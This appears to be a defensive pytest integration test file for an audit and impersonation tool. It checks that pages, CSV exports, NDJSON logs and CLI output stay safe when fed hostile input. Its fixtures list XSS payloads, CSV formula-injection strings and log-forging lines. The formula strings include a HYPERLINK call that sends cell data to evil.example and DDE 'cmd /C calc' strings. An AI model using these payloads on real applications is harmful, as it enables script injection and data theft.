"""Text that wants to be more than text: markup, formulas, lines of a log, a terminal's commands
(T7, T8). The dashboard's part is tried in a browser, with the acceptance tests."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from tests.integration.abuse.stack import Stack
from understudy.cli.commands import app
from understudy.core.ids import SubjectId
from understudy.core.people.permissions import Role
from understudy.core.ports import EntryFilter, Unit
from understudy.core.text import is_plain_text
from understudy.storage.log.exports import ExportKind

MARKUP = (
    "<script>alert(1)</script>",
    "</understudy-banner><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</b></div><iframe srcdoc='<script>alert(1)</script>'>",
    "<!--><script>alert(1)//-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} `${alert(1)}` <%= alert(1) %>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"Error")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 behind a tab, long enough",
    "\uff1d1+1 in full width, long enough",
    '"; =1+1; " quoted, long enough',
)
LINES = (
    "a reason\n2026-11-22T09:30:00Z session.ended ok",
    "a reason\r\nSet-Cookie: a=b",
    'a reason"}\n{"type":"session.ended","outcome":"ok"',
    "a reason\u2028{}\u2029{}",
    "CEF:0|Understudy|x|1|y|z|9|act=a\\=b reason",
)


class Elements(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def padded(text: str) -> str:
    """Long enough for a reason."""
    return f"{text} {'x' * 10}" if len(text.strip()) < 10 else text


@pytest.mark.parametrize("payload", MARKUP)
def test_t7_names_and_reasons_stay_text_in_the_apps_pages(stack: Stack, payload: str) -> None:
    stack.save_subject(id="bob", name=payload, email="a@b", organization_id="acme")
    harmless = stack.open(subject_id="bob", actor={"id": "kim", "name": "Kim"})
    opened = stack.open(
        subject_id="bob", reason=padded(payload), ticket=payload, actor={"id": "k", "name": payload}
    )
    stack.save_subject(id="bob", email="bob@acme.example", organization_id="acme")
    pages = []
    for one in (harmless, opened):
        kim = stack.overlaid(stack.visitor(), one)
        kim.page()
        pages += [kim.page(), kim.open(f"{stack.app_url}/_understudy/end")]
        pages += [kim.submit(f"{stack.app_url}/settings/password")]
    plain, hostile = pages[:3], pages[3:]
    for before, after in zip(plain, hostile, strict=True):
        assert shape(before.text) == shape(after.text)
        assert payload.replace("&lt;", "") not in after.text or "<" not in payload
    banner = next(attrs for tag, attrs in Elements(hostile[0].text).found if "banner" in tag)
    assert banner["data-reason"] == padded(payload)


def shape(html: str) -> list[tuple[str, list[str]]]:
    """What a page is made of, whatever is written in it."""
    return [
        (tag, sorted(name for name in attrs if name != "data-ticket"))
        for tag, attrs in Elements(html).found
    ]


@pytest.mark.parametrize("payload", FORMULAS)
def test_t7_an_export_opens_inert_in_a_spreadsheet(stack: Stack, payload: str) -> None:
    opened = stack.open(reason=payload, actor={"id": payload.strip(), "name": payload.strip()})
    kim = stack.overlaid(stack.visitor(), opened)
    agent = {"user-agent": payload.strip().encode()}
    assert kim.app("POST", "/orders", headers=agent).is_success
    rows = exported(stack, opened["session"]["id"])
    text = payload.strip()
    marked = f"'{text}" if text[0] in "=+-@＝" else text  # noqa: RUF001
    assert {row["reason"] for row in rows} - {""} == {marked}
    for row in rows:
        for name, cell in row.items():
            assert not cell.lstrip().startswith(tuple("=+-@\t\r＝＋－＠")), (name, cell)  # noqa: RUF001


def exported(stack: Stack, session_id: str) -> list[dict[str, str]]:
    """The rows of a CSV export about one session."""
    email = f"auditor-{session_id.lower()}@support.example"
    auditor = stack.operator(Role.AUDITOR, email=email)[1]
    url = f"{stack.issuer}/api/v1/audit/export?format=csv&session_id={session_id}"
    answer = auditor.call("GET", url)
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


plain_text = st.text(st.characters(exclude_categories=["C"]), max_size=60).map(
    lambda text: f"reason: {text} (end)"
)


@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(reason=st.one_of(st.sampled_from(LINES), plain_text))
def test_t8_one_event_is_one_line_with_the_same_facts(stack: Stack, reason: str) -> None:
    body = {"subject_id": "ada", "reason": reason, "ticket": "T-1"}
    with stack.backend() as backend:
        asked = backend.post("/impersonations", json={**body, "actor": {"id": "kim"}})
    assert asked.status_code == (201 if is_plain_text(reason.strip()) else 403)
    header, *lines = map(json.loads, exported_lines(stack))
    size = int(header["checkpoint"].split("\n")[1])
    assert [line["index"] for line in lines] == list(range(size))
    kind = "grant.created" if asked.status_code == 201 else "grant.denied"
    leaf = next(line for line in reversed(lines) if json.loads(line["leaf"])["type"] == kind)
    assert leaf["personal"]["ticket"] == "T-1"
    told = leaf["personal"]["reason"]
    assert told == reason.strip() if asked.status_code == 201 else "\r" not in told


def exported_lines(stack: Stack) -> list[bytes]:
    """The lines of an NDJSON export of the whole log."""
    lines = b"".join(stack.engine.export(ExportKind.NDJSON, EntryFilter())).split(b"\n")
    assert lines.pop() == b""
    return lines


CONTROLS = "\x1b[2J\x1b[31m\x07\x9b0m\x08\u202e\u2066"
"""What moves a terminal's cursor, wipes its screen, or turns its text around."""


def named_before_there_was_a_rule(unit: Unit, application_id: str) -> None:
    """No door takes such a name any more; older ones are stored."""
    bob = unit.subjects.get(application_id, SubjectId("bob"))
    assert bob is not None
    unit.subjects.save(replace(bob, name=f"Bob {CONTROLS}", email=f"{CONTROLS}@shop.example"))


@pytest.mark.parametrize("words", [["audit", "list"], ["sessions", "list"]])
def test_t8_the_command_line_shows_one_event_on_one_line(stack: Stack, words: list[str]) -> None:
    stack.save_subject(id="bob", name="Bob", organization_id="acme")
    stack.engine.run(lambda unit: named_before_there_was_a_rule(unit, stack.main.application.id))
    for reason in ("a reason\n0  2026-11-22  session.ended", "a reason\u2028of two lines"):
        stack.open(subject_id="bob", reason=reason, actor={"id": "kim", "name": "Kim"})
    ran = CliRunner().invoke(app, [*words, "--data-dir", str(stack.folder)])
    assert ran.exit_code == 0, ran.output
    rows = ran.stdout.splitlines()[1:]
    expected = 50 if words[0] == "audit" else len(stack.live())
    assert len(rows) == expected > 1
    odd = [char for char in ran.stdout if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")]
    assert set(odd) == {"\n"}
    assert "a reason" in ran.stdout
    stack.save_subject(id="bob", email="bob@acme.example", organization_id="acme")
